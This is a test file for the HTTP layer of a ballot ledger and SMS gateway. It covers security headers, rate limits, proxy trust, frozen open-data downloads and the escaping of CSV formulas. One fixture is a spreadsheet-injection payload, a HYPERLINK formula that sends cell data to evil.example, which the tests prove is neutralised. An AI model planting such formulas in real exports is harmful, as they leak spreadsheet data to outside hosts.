// The HTTP surfaces against a stranger (issue 17 §5, §8): a malformed address is the client's
// fault, every response carries its security headers, the public endpoints are rate-limited per
// client address (X-Forwarded-For only from a configured proxy), open data downloads are the
// bytes frozen at publication, answered (or refused) without recounting anything, and CSV cells
// cannot become spreadsheet formulas.
import { createPrivateKey } from 'node:crypto';
import { gunzipSync } from 'node:zlib';
import request from 'supertest';
import twilio from 'twilio';
import { describe, expect, it, vi } from 'vitest';
import type { Deployment } from '../src/config/schema.ts';
import { loadSettings } from '../src/config/env.ts';
import { createLedgerApp, resultsRouter, type LedgerAppOptions } from '../src/http/ledger-app.ts';
import { clientFault } from '../src/http/errors.ts';
import { createLogger } from '../src/logging.ts';
import { decodeBatch, newKeyPair } from '../src/domain/protocol.ts';
import { buildBatch } from '../sync/batch.ts';
import type { Ledger } from '../ledger/ledger.ts';
import { ledgerBackends, eventFactory, testLedger, type Backend } from './helpers/ledger.ts';
import { testDeployment } from './helpers/deployment.ts';
import { logSink, PUBLIC_URL, testGateway, TOKEN, TWILIO_SID, TWILIO_TOKEN, ussdBody } from './helpers/gateway.ts';

const BACKENDS = await ledgerBackends();

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const BEFORE_CLOSE = new Date('2026-11-25T09:00:00Z');
const AFTER_CLOSE = new Date('2026-12-01T09:00:00Z');

/** A ledger with four ballots in c-open (voting closes 30 Nov), one project titled like a formula; `publish` closes and publishes. */
async function votedLedger(backend: Backend = 'sqlite', edit: (d: Deployment) => Deployment = (d) => d) {
  let now = BEFORE_CLOSE;
  const d = testDeployment((r) => {
    r.cycles[0].phases.voting.closes = '2026-11-30T18:00:00Z';
    r.cycles[0].projects[0].title.en = HYPERLINK;
  });
  const ledger = await testLedger(backend, edit(d), () => now);
  const { privatePem, publicKey } = newKeyPair();
  const gw = { gatewayId: 'gw-h', publicKey, privateKey: createPrivateKey(privatePem) };
  await ledger.addGateway(gw.gatewayId, publicKey);
  const f = eventFactory('gw-h');
  const at = '2026-11-22T09:00:00Z';
  const push = async (rows: ReturnType<typeof f.vote>[]) => {
    const { header, lines } = decodeBatch(gunzipSync(buildBatch(gw, rows, 0, now).body).toString('utf8'));
    await ledger.ingest(header, lines, 'push');
  };
  await push([
    f.vote('+254711000001', [1, 2], at),
    f.vote('+254711000002', [1, 3], at),
    f.vote('+254711000003', [2, 7], at),
    f.vote('+254711000004', [20], at, { wardId: 'south' }),
  ]);
  return {
    ledger,
    async publish() {
      now = AFTER_CLOSE;
      await push([]); // the gateway has delivered everything
      await ledger.publishResults('c-open');
    },
    /** A ballot arriving after publication (at `arrival`), from the same gateway. */
    late: (arrival = AFTER_CLOSE) => {
      now = arrival;
      return push([f.vote('+254711000009', [3], '2026-11-30T17:00:00Z')]);
    },
  };
}

const silent = createLogger('silent');
const app = (ledger: Ledger, options: LedgerAppOptions = {}) => createLedgerApp(ledger, silent, options);

/** Counts the ledger's database queries from now on. */
const countQueries = (ledger: Ledger) => vi.spyOn(ledger.conn.db.getExecutor(), 'executeQuery');

describe('a malformed percent-encoding in the address', () => {
  it('is a 400 with a short reason on the ledger (results, open data, receipts), logged as one line without a stack', async () => {
    const { ledger } = await votedLedger();
    const logs = logSink();
    const ledgerApp = createLedgerApp(ledger, createLogger('debug', logs.stream));
    for (const path of ['/results/%E0%A4%A', '/results/c-open/%E0%A4%A', '/v1/receipts/%E0%A4%A', '/results/%']) {
      const res = await request(ledgerApp).get(path);
      expect(res.status, path).toBe(400);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.text).toMatch(/malformed percent-encoding/);
      expect(res.text).not.toMatch(/at .*\.(ts|js)/);
    }
    expect((await request(ledgerApp).get('/v1/receipts/%E0%A4%A')).body).toMatchObject({ error: 'malformed' });
    expect(logs.text()).not.toMatch(/"stack"|\n\s+at /);
    expect(logs.text()).not.toMatch(/"level":50/); // nothing logged as a server error
    expect(logs.text()).toMatch(/request refused: the address has a malformed percent-encoding/);
    await ledger.close();
  });

  it('is a 400 on the gateway too, for a provider callback and the embedded ledger’s results alike', async () => {
    const gw = testGateway();
    const { ledger } = await votedLedger();
    gw.ledgerMount.use(resultsRouter(ledger, createLogger('silent')));
    const callback = await request(gw.app).post('/africastalking/ussd/%E0%A4%A').type('form').send(ussdBody({}));
    expect(callback.status).toBe(400);
    expect(callback.text).toMatch(/^Bad request: the address has a malformed percent-encoding/);
    const page = await request(gw.app).get('/results/%E0%A4%A');
    expect(page.status).toBe(400);
    expect(page.text).toMatch(/^Bad request: the address has a malformed percent-encoding/);
    expect(gw.logs.text()).not.toMatch(/"stack"|\n\s+at |"level":50/);
    gw.db.close();
    await ledger.close();
  });
});

describe('a client that goes away mid-body', () => {
  it('is the client’s fault (a 400 nobody hears, logged as a refusal), not an error of ours', () => {
    // What node's request stream throws when the socket closes before Content-Length bytes came.
    const aborted = Object.assign(new Error('aborted'), { code: 'ECONNRESET' });
    expect(clientFault(aborted)).toEqual({ status: 400, error: 'malformed', message: 'the request ended before its body was read' });
    expect(clientFault(Object.assign(new Error('read ECONNRESET'), { code: 'ECONNRESET' }))).toBeUndefined();
  });
});

describe('security headers', () => {
  it('every kind of response sends nosniff; pages send the CSP, frame-ancestors none and a referrer policy', async () => {
    const v = await votedLedger();
    await v.publish();
    const ledgerApp = app(v.ledger);
    const gw = testGateway();
    const sms = { MessageSid: `SM${'1'.repeat(32)}`, AccountSid: TWILIO_SID, From: '+254711000001', To: '+15005550006', Body: 'HELP' };
    const kinds: [string, import('supertest').Test][] = [
      ['ledger page', request(ledgerApp).get('/results/c-open')],
      ['ledger index', request(ledgerApp).get('/results')],
      ['ledger JSON', request(ledgerApp).get('/v1/gateways')],
      ['ledger health', request(ledgerApp).get('/health')],
      ['open data CSV', request(ledgerApp).get('/results/c-open/results.csv')],
      ['open data JSON', request(ledgerApp).get('/results/c-open/results.json')],
      ['open data .pb', request(ledgerApp).get('/results/c-open/north.pb')],
      ['ledger 404', request(ledgerApp).get('/nope')],
      ['open data 404', request(ledgerApp).get('/results/c-open/nope.csv')],
      ['receipt 404', request(ledgerApp).get('/v1/receipts/ABCDE-FGHIJ')],
      ['ledger refusal', request(ledgerApp).post('/v1/batches')],
      ['gateway health', request(gw.app).get('/healthz')],
      ['gateway 404', request(gw.app).get('/nope')],
      ['USSD text', request(gw.app).post(`/africastalking/ussd/${TOKEN}`).type('form').send(ussdBody({}))],
      ['USSD refusal', request(gw.app).post(`/africastalking/ussd/wrong-token-000000`).type('form').send(ussdBody({}))],
      ['Twilio refusal', request(gw.app).post('/twilio/sms').type('form').send({ Body: 'x' })],
      [
        'TwiML',
        request(gw.app)
          .post('/twilio/sms')
          .type('form')
          .set('X-Twilio-Signature', twilio.getExpectedTwilioSignature(TWILIO_TOKEN, `${PUBLIC_URL}/twilio/sms`, sms))
          .send(sms),
      ],
    ];
    for (const [kind, req] of kinds) {
      const res = await req;
      if (kind === 'TwiML') expect(res.text).toMatch(/^<\?xml[\s\S]*<Response/);
      expect(res.headers['x-content-type-options'], kind).toBe('nosniff');
      expect(res.headers['x-powered-by'], kind).toBeUndefined();
    }
    for (const path of ['/results', '/results/c-open', '/results/c-past?lang=sw']) {
      const res = await request(ledgerApp).get(path);
      const csp = res.headers['content-security-policy'] as string;
      expect(csp).toMatch(/(^|;)default-src 'self'(;|$)/);
      expect(csp).toMatch(/frame-ancestors 'none'/);
      expect(csp).toMatch(/script-src 'self'(;|$)/);
      expect(csp).not.toMatch(/unsafe-inline|unsafe-eval/);
      expect(res.headers['x-frame-options']).toBe('DENY');
      expect(res.headers['referrer-policy']).toBe('no-referrer');
      // No inline script at all; the one inline stylesheet is allowed by its hash.
      expect(res.text).not.toMatch(/<script|\son\w+=/i);
      const style = /<style>([\s\S]*?)<\/style>/.exec(res.text)![1]!;
      const { createHash } = await import('node:crypto');
      expect(csp).toContain(`'sha256-${createHash('sha256').update(style).digest('base64')}'`);
    }
    gw.db.close();
    await v.ledger.close();
  });
});

describe('rate limits on the public endpoints', () => {
  it('answers the request past the limit with 429 and Retry-After, for /results and /v1/receipts each', async () => {
    const { ledger } = await votedLedger();
    const limited = app(ledger, { publicRateLimit: 3 });
    for (let i = 0; i < 3; i++) expect((await request(limited).get(i % 2 ? '/results' : '/results/c-open')).status).toBe(200);
    const page = await request(limited).get('/results/c-open/ballots.csv');
    expect(page.status).toBe(429);
    expect(Number(page.headers['retry-after'])).toBeGreaterThan(0);
    expect(page.text).toMatch(/Too many requests/);
    expect((await request(limited).get('/results?lang=sw')).text).toMatch(/^Maombi mengi mno/);
    expect((await request(limited).get('/results?lang=fr')).text).toMatch(/^Trop de demandes/);
    // Receipts count apart from pages.
    for (let i = 0; i < 3; i++) expect((await request(limited).get('/v1/receipts/ABCDE-FGHIJ')).status).toBe(404);
    const receipt = await request(limited).get('/v1/receipts/ABCDE-FGHIJ');
    expect(receipt.status).toBe(429);
    expect(Number(receipt.headers['retry-after'])).toBeGreaterThan(0);
    expect(receipt.body).toMatchObject({ error: 'rate-limited' });
    // Gateways' own API is not limited.
    expect((await request(limited).get('/v1/gateways')).status).toBe(200);
    await ledger.close();
  });

  it('believes X-Forwarded-For only from a configured proxy', async () => {
    const { ledger } = await votedLedger();
    const client = (n: number) => `203.0.113.${n}`;
    // No proxy configured: the header is ignored, every request is the connecting address's.
    const direct = app(ledger, { publicRateLimit: 2 });
    const directStatuses = [];
    for (let i = 1; i <= 3; i++) directStatuses.push((await request(direct).get('/results').set('X-Forwarded-For', client(i))).status);
    expect(directStatuses).toEqual([200, 200, 429]);
    // Behind a proxy on loopback (as configured by SAUTI_TRUST_PROXY): each client has its own count.
    const trustProxy = loadSettings({ SAUTI_TRUST_PROXY: 'loopback' }).trustProxy;
    const proxied = app(ledger, { publicRateLimit: 2, trustProxy });
    const statuses = [];
    for (let i = 1; i <= 3; i++) statuses.push((await request(proxied).get('/results').set('X-Forwarded-For', client(i))).status);
    expect(statuses).toEqual([200, 200, 200]);
    for (let i = 0; i < 2; i++) await request(proxied).get('/results').set('X-Forwarded-For', client(9));
    expect((await request(proxied).get('/results').set('X-Forwarded-For', client(9))).status).toBe(429);
    // A proxy elsewhere is not believed: the loopback client is itself, whatever it forwards.
    const elsewhere = app(ledger, { publicRateLimit: 1, trustProxy: loadSettings({ SAUTI_TRUST_PROXY: '10.0.0.0/8' }).trustProxy });
    expect((await request(elsewhere).get('/results').set('X-Forwarded-For', client(1))).status).toBe(200);
    expect((await request(elsewhere).get('/results').set('X-Forwarded-For', client(2))).status).toBe(429);
    await ledger.close();
  });

  it('reads SAUTI_TRUST_PROXY as addresses, subnets, names or a hop count, and refuses anything else naming it', () => {
    expect(loadSettings({}).trustProxy).toBeUndefined();
    expect(loadSettings({ SAUTI_TRUST_PROXY: '10.0.0.1, 192.168.0.0/16,loopback' }).trustProxy).toEqual(['10.0.0.1', '192.168.0.0/16', 'loopback']);
    expect(loadSettings({ SAUTI_TRUST_PROXY: '1' }).trustProxy).toBe(1);
    expect(() => loadSettings({ SAUTI_TRUST_PROXY: 'true' })).toThrow(/SAUTI_TRUST_PROXY[\s\S]*'true' is not an IP address/);
    expect(() => loadSettings({ SAUTI_TRUST_PROXY: '10.0.0.0/33' })).toThrow(/SAUTI_TRUST_PROXY/);
    expect(loadSettings({}).publicRateLimit).toBe(120);
    expect(() => loadSettings({ SAUTI_PUBLIC_RATE_LIMIT: '0' })).toThrow(/SAUTI_PUBLIC_RATE_LIMIT/);
  });
});

describe('open data downloads', () => {
  it('refuses an unknown file name with 404 before any database work', async () => {
    const v = await votedLedger();
    await v.publish();
    const ledgerApp = app(v.ledger);
    const queries = countQueries(v.ledger);
    for (const path of ['/results/c-open/nope.csv', '/results/c-open/east.pb', '/results/c-open/ballots.csv.bak', '/results/nope/ballots.csv']) {
      const res = await request(ledgerApp).get(path);
      expect(res.status, path).toBe(404);
    }
    expect(queries).not.toHaveBeenCalled();
    expect((await request(ledgerApp).get('/results/c-open/nope.csv')).text).toMatch(
      /There are results\.csv, results\.json, turnout\.csv, ballots\.csv, ballots\.json, north\.pb, south\.pb, late\.csv/,
    );
    // The spy sees queries at all: a real file asks the database.
    expect((await request(ledgerApp).get('/results/c-open/ballots.csv')).status).toBe(200);
    expect(queries).toHaveBeenCalled();
    await v.ledger.close();
  });

  for (const backend of BACKENDS) {
    it(`serves the bytes frozen at publication with one query, whatever changes later (${backend})`, async () => {
      const v = await votedLedger(backend);
      await v.publish();
      const ledgerApp = app(v.ledger);
      const files = [
        'results.csv',
        'results.csv?lang=sw',
        'results.json',
        'turnout.csv',
        'ballots.csv',
        'ballots.json',
        'north.pb',
        'south.pb',
        'north.pb?lang=fr',
      ];
      const first = new Map<string, Buffer>();
      for (const f of files)
        first.set(
          f,
          (
            await request(ledgerApp)
              .get(`/results/c-open/${f}`)
              .buffer(true)
              .parse((res, cb) => {
                const chunks: Buffer[] = [];
                res.on('data', (c: Buffer) => chunks.push(c));
                res.on('end', () => cb(null, Buffer.concat(chunks)));
              })
          ).body as Buffer,
        );
      // A late ballot, and the PB team renaming a project in the deployment file: the published files do not move.
      await v.late();
      const renamed = testDeployment((r) => {
        r.cycles[0].phases.voting.closes = '2026-11-30T18:00:00Z';
        r.cycles[0].projects[0].title.en = 'Renamed after publication';
      });
      v.ledger.setBallot(() => renamed);
      const queries = countQueries(v.ledger);
      for (const f of files) {
        queries.mockClear();
        const res = await request(ledgerApp)
          .get(`/results/c-open/${f}`)
          .buffer(true)
          .parse((r, cb) => {
            const chunks: Buffer[] = [];
            r.on('data', (c: Buffer) => chunks.push(c));
            r.on('end', () => cb(null, Buffer.concat(chunks)));
          });
        expect(res.status, f).toBe(200);
        expect((res.body as Buffer).equals(first.get(f)!), f).toBe(true);
        expect(queries, f).toHaveBeenCalledTimes(1); // the stored file, nothing counted or exported
      }
      expect(first.get('results.csv')!.toString()).not.toContain('Renamed');
      expect(first.get('results.csv?lang=sw')!.toString()).toContain('Kisima'); // the Swahili titles
      await v.ledger.close();
    });
  }

  it('stores the files of a cycle published before they were stored, on its first download, once', async () => {
    const v = await votedLedger();
    await v.publish();
    const ledgerApp = app(v.ledger);
    const before = (await request(ledgerApp).get('/results/c-open/ballots.csv')).text;
    // As a ledger published before migration 0009 holds it: the result and ballots frozen, no files.
    await v.ledger.conn.db.deleteFrom('ledger_published_files').execute();
    expect((await request(ledgerApp).get('/results/c-open/ballots.csv')).text).toBe(before);
    const stored = await v.ledger.conn.db.selectFrom('ledger_published_files').select(['name', 'lang']).orderBy('name').orderBy('lang').execute();
    expect(stored.map((r) => `${r.name}:${r.lang}`)).toEqual([
      'ballots.csv:',
      'ballots.json:',
      'north.pb:en',
      'north.pb:fr',
      'north.pb:sw',
      'results.csv:en',
      'results.csv:fr',
      'results.csv:sw',
      'results.json:',
      'south.pb:en',
      'south.pb:fr',
      'south.pb:sw',
      'turnout.csv:',
    ]);
    await v.ledger.close();
  });
});

describe('CSV exports cannot carry formulas', () => {
  it('results.csv writes a formula-like title as text with a leading apostrophe; numbers stay numbers', async () => {
    const v = await votedLedger();
    await v.publish();
    const csv = (await request(app(v.ledger)).get('/results/c-open/results.csv')).text;
    const row = csv.split('\n').find((l) => l.includes('HYPERLINK'))!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(row).toMatch(/^c-open,north,1,/);
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
    await v.ledger.close();
  });
});

describe('the results page tells time as residents do', () => {
  it('in the deployment’s time zone (Nairobi), where the date differs from UTC', async () => {
    const v = await votedLedger();
    await v.publish();
    // Arrived 22:15 UTC on 1 December: 01:15 on 2 December in Nairobi.
    await v.late(new Date('2026-12-01T22:15:00Z'));
    const page = (await request(app(v.ledger)).get('/results/c-open')).text;
    expect(page).toContain('<td>2 Dec 2026, 01:15 GMT+3</td>');
    expect(page).toContain('<td>30 Nov 2026, 20:00 GMT+3</td>'); // captured 17:00 UTC
    expect(page).not.toMatch(/UTC|2026-12-01/);
    const sw = (await request(app(v.ledger)).get('/results/c-open?lang=sw')).text;
    expect(sw).toContain('2 Des 2026, 01:15');
    await v.ledger.close();
  });
});
